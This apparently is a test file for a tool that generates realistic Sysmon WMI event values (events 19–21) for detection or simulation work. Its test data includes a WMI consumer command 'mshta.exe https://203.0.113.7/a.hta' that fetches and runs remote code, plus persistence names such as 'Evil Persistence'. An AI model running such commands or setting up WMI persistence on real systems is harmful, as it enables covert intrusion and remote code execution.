import type { WmiEventId, WmiField } from '../../lib';
import { recordedPath, recordedText, typicalEvent, wmiEvent } from '../../lib/catalog';
import { FieldDomain } from '../../lib/analysis/values/domain';
import { realisticValues, valueShapes } from '../../lib/analysis/values/realistic';

const FIELDS = ([19, 20, 21] as const).flatMap((id) => wmiEvent(id).fields.map((field) => [id, field] as const));

describe('realistic values', () => {
  it.each(FIELDS)('of event %i, %s, are different ones, the typical one in front', (id, field) => {
    const values = realisticValues(id, field);
    expect(values[0]).toBe(typicalEvent(id, 'Created')[field] ?? '-');
    expect(new Set(values).size).toBe(values.length);
  });

  it.each<[WmiEventId, WmiField, readonly string[]]>([
    [19, 'UtcTime', ['2026-03-02 22:41:07.018']],
    [19, 'User', ['NT AUTHORITY\\SYSTEM', 'HR001\\martha']],
    [19, 'EventNamespace', ['root\\subscription', 'root\\default'].map(recordedText)],
    [19, 'Name', ['WindowsUpdateCheck', 'Maintenance', 'Evil Persistence'].map(recordedText)],
    [20, 'Type', ['Command Line', 'Script', 'Log File', 'Event Log', 'SMTP']],
    [20, 'Destination', [recordedText('mshta.exe https://203.0.113.7/a.hta')]],
    [21, 'Consumer', [recordedPath('ActiveScriptEventConsumer', 'Updater', '')]],
    [21, 'Filter', [recordedPath('__EventFilter', 'Updater', '')]],
  ])('of event %i, %s, have %j among them', (id, field, some) => {
    expect(realisticValues(id, field)).toEqual(expect.arrayContaining([...some]));
  });

  it.each(['Win32_PerfFormattedData', 'Win32_LogonSession', 'Win32_ProcessStartTrace', '__TimerEvent', '__Instance'])(
    'wait for what attackers wait for: %s',
    (what) => {
      expect(realisticValues(19, 'Query').some((query) => query.includes(what))).toBe(true);
    },
  );

  it.each(['powershell', 'mshta', 'cmd.exe', 'CreateObject', 'http'])('run what attackers run: %s', (what) => {
    expect(realisticValues(20, 'Destination').some((payload) => payload.includes(what))).toBe(true);
  });
});

describe('value shapes', () => {
  it.each(FIELDS)('of event %i, %s, hold a text and are then a value of the field', (id, field) => {
    const domain = new FieldDomain(wmiEvent(id), field);
    if (domain.listed !== null || field === 'UtcTime') {
      return;
    }
    const shapes = valueShapes(id, field);
    expect(shapes).not.toEqual([]);
    for (const { open, close, bodies } of shapes) {
      expect(bodies).toContain('');
      for (const body of bodies) {
        const text = `${open}${body}T${close}`;
        expect([text, domain.valueOf(text)?.text]).toEqual([text, text]);
      }
    }
  });

  it('of a payload begin with the typical one', () => {
    const [shape] = valueShapes(20, 'Destination');
    expect(shape && shape.open + (shape.bodies[0] ?? '') + shape.close).toBe(typicalEvent(20, 'Created').Destination);
  });
});
